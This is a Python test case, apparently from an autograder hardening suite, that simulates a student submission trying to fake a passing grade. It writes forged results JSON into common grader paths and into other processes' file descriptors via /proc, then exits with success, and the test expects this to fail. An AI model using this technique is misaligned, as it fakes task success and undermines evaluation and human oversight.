# Attack: 101, results of its own
# Source: PrairieLearn issue 3831 and pull request 3684 (the student's code writes the result file and ends the grader)
# Tries: writes results into files where graders of this world look for them and the driver's own messages to every descriptor, and ends with success.
# Meets: results are made outside of the box from what the clients saw; a program that has ended answers nobody.
# Script: connect A
# Script: A sends "hello\n"
# Script: A receives "hello\n"
# Script: A receives nothing
# Expect: verdict failed
import json
import os

REPORT = json.dumps({"score": 1, "succeeded": True, "outcome": "passed", "points": 31, "type": "Finished"})
for name in ("/grade/results/results.json", "/tmp/results.json", "/w/results.json", "/autograder/results.json"):
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        with open(name, "w") as file:
            file.write(REPORT)
    except OSError:
        pass
for pid in ("self", "1", str(os.getppid())):
    for number in range(64):
        try:
            descriptor = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(descriptor, f'{REPORT}\n{{"exit-code": 0}}\n'.encode())
        except OSError:
            pass
os._exit(0)
